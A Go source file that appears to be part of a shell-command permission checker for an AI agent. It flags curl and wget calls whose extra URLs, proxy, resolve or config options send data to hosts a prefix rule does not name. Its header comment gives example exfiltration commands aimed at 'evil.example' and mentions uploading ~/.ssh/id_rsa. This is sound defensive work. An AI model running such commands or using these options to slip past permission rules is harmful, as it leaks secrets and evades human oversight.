package bashparse

import (
	"path"
	"sort"
	"strings"
	"sync"
)

// A prefix rule that names a URL, Bash(curl https://docs.example.com:*),
// approves the arguments that follow it, and curl and wget read more of
// them as destinations than the rule's author meant: a second URL
// (curl https://docs.example.com https://evil.example -d @notes), a proxy
// that receives the whole request (-x evil:8080, --preproxy, --socks5),
// a host or address swapped under the URL's name (--connect-to, --resolve,
// --doh-url, --unix-socket), or a file of further instructions and URLs
// (curl -K FILE, wget -i FILE, --config FILE: a repository can ship one
// that uploads ~/.ssh/id_rsa to its own host). Each sends the call's data
// to a host the rule does not name, so each is a power no prefix rule
// approves (spec §3, "a prefix rule approves arguments, not new powers";
// the spec is silent on destinations, so this fails closed): such a call
// asks unless an exact rule names it. Several URLs of one host, and the
// options that only tune a fetch, stay approved.

// netRouteOptions are, by program, the options that change where a
// request goes or read its instructions from a file: long names without
// dashes (matched also as the unique prefixes getopt accepts) and short
// letters.
var netRouteOptions = sync.OnceValue(func() map[string]struct{ long, short string } {
	return map[string]struct{ long, short string }{
		"curl": {long: " proxy preproxy socks4 socks4a socks5 socks5-hostname proxy1.0 connect-to resolve " +
			"doh-url dns-servers unix-socket abstract-unix-socket config ipfs-gateway alt-svc ", short: "xK"},
		"wget": {long: " input-file base config ", short: "iB"},
	}
})

// netValueOptions are, by program, the long options that take a value (as
// curl --help all and wget --help list them) and the short letters that
// do: the word after one is its value, not a URL. A long option missing
// here makes its value read as a URL of another host (ask), never less.
var netValueOptions = sync.OnceValue(func() map[string]struct {
	long  map[string]bool
	short string
} {
	set := func(s string) map[string]bool {
		m := map[string]bool{}
		for _, f := range strings.Fields(s) {
			m[f] = true
		}
		return m
	}
	return map[string]struct {
		long  map[string]bool
		short string
	}{
		"curl": {long: set(`abstract-unix-socket alt-svc aws-sigv4 cacert capath cert cert-type ciphers config
			connect-timeout connect-to continue-at cookie cookie-jar create-file-mode crlfile curves data data-ascii
			data-binary data-raw data-urlencode delegation dns-interface dns-ipv4-addr dns-ipv6-addr dns-servers
			doh-url dump-header egd-file engine etag-compare etag-save expect100-timeout form form-string
			ftp-account ftp-alternative-to-user ftp-method ftp-port ftp-ssl-ccc-mode happy-eyeballs-timeout-ms
			header hostpubmd5 hostpubsha256 hsts interface json keepalive-time key key-type krb libcurl
			limit-rate local-port login-options mail-auth mail-from mail-rcpt max-filesize max-redirs max-time
			netrc-file noproxy oauth2-bearer output output-dir parallel-max pass pinnedpubkey proto
			proto-default proto-redir proxy proxy-cacert proxy-capath proxy-cert proxy-cert-type proxy-ciphers
			proxy-crlfile proxy-header proxy-key proxy-key-type proxy-pass proxy-pinnedpubkey proxy-service-name
			proxy-tls13-ciphers proxy-tlsauthtype proxy-tlspassword proxy-tlsuser proxy-user proxy1.0 preproxy
			pubkey quote random-file range rate referer request request-target resolve retry retry-delay
			retry-max-time sasl-authzid service-name socks4 socks4a socks5 socks5-gssapi-service socks5-hostname
			speed-limit speed-time stderr telnet-option tftp-blksize time-cond tls-max tls13-ciphers tlsauthtype
			tlspassword tlsuser trace trace-ascii unix-socket upload-file url url-query user user-agent
			write-out variable ipfs-gateway trace-config ech ssl-sessions ip-tos vlan-priority`),
			short: "AbcCdDeEFHKmoPQrtTuUwxXyYz"},
		"wget": {long: set(`accept accept-regex append-output backups base bind-address body-data body-file
			ca-certificate ca-directory certificate certificate-type ciphers compression config connect-timeout
			crl-file cut-dirs default-page directory-prefix dns-timeout domains exclude-directories
			exclude-domains execute follow-tags ftp-password ftp-user header http-password http-user ignore-tags
			include-directories input-file level limit-rate load-cookies local-encoding method output-document
			output-file password pinnedpubkey post-data post-file prefer-family private-key private-key-type
			progress proxy-password proxy-user quota read-timeout referer regex-type reject reject-regex
			rejected-log remote-encoding report-speed restrict-file-names retry-on-http-error save-cookies
			secure-protocol start-pos timeout tries use-askpass user user-agent wait waitretry warc-dedup
			warc-file warc-header warc-max-size warc-tempdir hsts-file`),
			short: "eoaiBtOTwQPUlARDIX"},
	}
})

// netOperands splits a curl or wget command's arguments into its URL
// operands (with --url's values) and the short option letters it gives.
func netOperands(prog string, args []string) (operands []string, shorts []byte) {
	vo := netValueOptions()[prog]
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case a == "--":
			return append(operands, args[i+1:]...), shorts
		case strings.HasPrefix(a, "--"):
			name, val, eq := strings.Cut(a[2:], "=")
			takes := vo.long[name] || strings.HasPrefix(name, "expand-")
			if takes && !eq && i+1 < len(args) {
				i++
				val = args[i]
			}
			if name == "url" || name == "expand-url" {
				operands = append(operands, val)
			}
		case len(a) > 1 && a[0] == '-':
			for k := 1; k < len(a); k++ {
				shorts = append(shorts, a[k])
				if strings.IndexByte(vo.short, a[k]) >= 0 {
					if k == len(a)-1 && i+1 < len(args) {
						i++
					}
					break
				}
			}
		default:
			operands = append(operands, a)
		}
	}
	return operands, shorts
}

// netRoutePowers lists the destinations a curl or wget command reaches
// beyond its first URL's host, and the options that route it elsewhere.
func netRoutePowers(inner []Word) []string {
	if len(inner) < 2 {
		return nil
	}
	prog := path.Base(inner[0].Value)
	routes, ok := netRouteOptions()[prog]
	if !ok {
		return nil
	}
	vals := make([]string, len(inner))
	vals[0] = prog
	for i, w := range inner[1:] {
		vals[i+1] = w.Value
	}
	var powers []string
	ended := false
	for _, v := range vals[1:] {
		ended = ended || v == "--"
		if ended || !strings.HasPrefix(v, "--") || len(v) < 4 {
			continue
		}
		name, _, _ := strings.Cut(v[2:], "=")
		if strings.Contains(routes.long, " "+name+" ") || len(name) >= 3 && strings.Contains(routes.long, " "+name) {
			powers = append(powers, prog+" "+v+" sends the request to, or reads it from, a place the URL does not name")
		}
	}
	operands, shorts := netOperands(prog, vals[1:])
	for _, o := range shorts {
		if strings.IndexByte(routes.short, o) >= 0 {
			powers = append(powers, prog+" -"+string(o)+" sends the request to, or reads it from, a place the URL does not name")
		}
	}
	hosts := map[string]bool{}
	for _, op := range operands {
		hosts[urlHost(op)] = true
	}
	if len(hosts) > 1 {
		names := make([]string, 0, len(hosts))
		for h := range hosts {
			names = append(names, h)
		}
		sort.Strings(names)
		powers = append(powers, prog+" fetches from more than one host: "+strings.Join(names, ", "))
	}
	return powers
}

// urlHost is the host (with its port) a URL operand names, lower-cased; a
// word without a scheme is a host as curl and wget read it.
func urlHost(u string) string {
	if _, rest, ok := strings.Cut(u, "://"); ok {
		u = rest
	}
	if i := strings.IndexAny(u, "/?#"); i >= 0 {
		u = u[:i]
	}
	if i := strings.LastIndexByte(u, '@'); i >= 0 {
		u = u[i+1:]
	}
	return strings.ToLower(u)
}
